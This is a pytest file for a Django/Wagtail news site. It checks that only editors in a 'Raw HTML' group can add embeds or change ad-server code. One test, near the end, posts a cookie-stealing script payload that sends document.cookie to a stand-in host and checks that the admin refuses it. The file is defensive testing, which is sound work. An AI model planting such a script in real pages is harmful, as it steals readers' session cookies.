"""Ad code and embeds (raw HTML on readers' pages) only from editors an administrator put in
the "Raw HTML" group; refused by the admin's own forms on the server, with the reason."""

from __future__ import annotations

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from wagtail.test.utils.form_data import inline_formset, nested_form_data, rich_text, streamfield

from roznama.ads.models import AdSlot
from roznama.news.models import ArticlePage

from .conftest import EMBED_URL, cached_embed

OTHER_EMBED_URL = "https://www.youtube.com/watch?v=another-clip"


def article_form(title, body, **fields):
    data = {
        "title": title,
        "slug": "",
        "standfirst": "",
        "credit": "",
        "dateline_place": "",
        "dateline_country": "",
        "dateline_agency": "",
        "body": streamfield(body),
        "tags": "",
        "authors": inline_formset([]),
        "corrections": inline_formset([]),
        "related_links": inline_formset([]),
        "comments": inline_formset([]),
        "origin": "staff",
        "wire_agency": "",
        "wire_id": "",
        "wire_version": "",
        "seo_title": "",
        "search_description": "",
        "updated_at": "",
        "go_live_at": "",
        "expire_at": "",
    }
    data.update(fields)
    return nested_form_data(data)


def paragraph(text):
    return ("paragraph", rich_text(f"<p>{text}</p>"))


def body_errors(response) -> str:
    """The reasons the admin gives for the body (shown beside the stream in the editor)."""
    return " ".join(str(e) for e in response.context["form"].errors.get("body", []))


def latest_draft(page):
    return ArticlePage.objects.get(pk=page.pk).get_latest_revision_as_object()


def add_article(client, section, title, body, **fields):
    fields.setdefault("slug", "clip-of-the-day")
    return client.post(
        reverse("wagtailadmin_pages:add", args=("news", "articlepage", section.pk)),
        article_form(title, body, **fields),
    )


def test_the_migration_makes_the_group_and_the_admin_lists_its_permission(db, django_user_model):
    group = Group.objects.get(name="Raw HTML")
    assert [p.codename for p in group.permissions.all()] == ["write_raw_html"]
    admin = django_user_model.objects.create_superuser("admin", "admin@example.org", "pw")
    from tests.roznama.conftest import signed_in

    client = signed_in(admin)
    page = client.get(reverse("wagtailusers_groups:edit", args=[group.pk])).content.decode()
    assert "Can write raw HTML (ad code and embeds)" in page


def test_an_editor_without_the_permission_cannot_add_an_embed(editor, newsroom):
    cached_embed()
    response = add_article(editor, newsroom.world, "Clip of the day", [paragraph("Watch."), ("embed", EMBED_URL)])
    assert response.status_code == 200  # the form again, with the reason
    assert "Only editors in the “Raw HTML” group may add or change an embed" in body_errors(response)
    assert not ArticlePage.objects.filter(title="Clip of the day").exists()


def test_an_editor_with_the_permission_can(raw_html_editor, newsroom):
    cached_embed()
    response = add_article(
        raw_html_editor, newsroom.world, "Clip of the day", [paragraph("Watch."), ("embed", EMBED_URL)]
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    page = ArticlePage.objects.get(title="Clip of the day")
    assert [b.value.url for b in latest_draft(page).body if b.block_type == "embed"] == [EMBED_URL]


def test_an_editor_without_it_may_edit_a_story_with_an_embed_but_not_change_the_embed(
    editor, raw_html_editor, newsroom
):
    cached_embed()
    cached_embed(OTHER_EMBED_URL)
    add_article(raw_html_editor, newsroom.world, "Clip of the day", [paragraph("Watch."), ("embed", EMBED_URL)])
    page = ArticlePage.objects.get(title="Clip of the day")
    edit = reverse("wagtailadmin_pages:edit", args=[page.pk])

    kept = editor.post(
        edit,
        article_form(
            "Clip of the day",
            [paragraph("Watch again."), ("embed", EMBED_URL)],
            slug=page.slug,
            standfirst="Now with a standfirst.",
        ),
    )
    assert kept.status_code == 302, kept.content.decode()[:2000]
    assert latest_draft(page).standfirst == "Now with a standfirst."

    changed = editor.post(
        edit, article_form("Clip of the day", [paragraph("Watch."), ("embed", OTHER_EMBED_URL)], slug=page.slug)
    )
    assert changed.status_code == 200
    assert "Only editors in the “Raw HTML” group may add or change an embed" in body_errors(changed)
    assert [b.value.url for b in latest_draft(page).body if b.block_type == "embed"] == [EMBED_URL]

    removed = editor.post(edit, article_form("Clip of the day", [paragraph("Watch.")], slug=page.slug))
    assert removed.status_code == 302
    assert not [b for b in latest_draft(page).body if b.block_type == "embed"]


AD_CODE = '<script src="https://ads.example.net/unit.js" data-unit="leaderboard"></script>'


def slot_form(**fields):
    data = {
        "name": "Leaderboard",
        "placement": "header",
        "after_paragraph": "3",
        "kind": "unit",
        "image": "",
        "alt_text": "",
        "link_url": "",
        "unit_code": AD_CODE,
        "width": "728",
        "height": "90",
        "active": "on",
    }
    data.update(fields)
    return data


@pytest.mark.parametrize("who", ["editor", "raw_html_editor"])
def test_ad_code_needs_the_permission(who, request, newsroom):
    client = request.getfixturevalue(who)
    response = client.post(reverse("wagtailsnippets_ads_adslot:add"), slot_form())
    if who == "editor":
        assert response.status_code == 200
        assert "Only editors in the “Raw HTML” group may write or change ad-server code" in response.content.decode()
        assert not AdSlot.objects.exists()
    else:
        assert response.status_code == 302
        assert AdSlot.objects.get().unit_code == AD_CODE


def test_an_editor_without_it_may_resize_a_unit_slot_but_not_change_its_code(editor, newsroom):
    slot = AdSlot.objects.create(name="Leaderboard", placement="header", kind="unit", unit_code=AD_CODE)
    edit = reverse("wagtailsnippets_ads_adslot:edit", args=[slot.pk])
    assert editor.post(edit, slot_form(height="100")).status_code == 302
    slot.refresh_from_db()
    assert slot.height == 100 and slot.unit_code == AD_CODE

    evil = '<script>fetch("https://evil.example/?c="+document.cookie)</script>'
    response = editor.post(edit, slot_form(unit_code=evil))
    assert response.status_code == 200
    assert "may write or change ad-server code" in response.content.decode()
    slot.refresh_from_db()
    assert slot.unit_code == AD_CODE
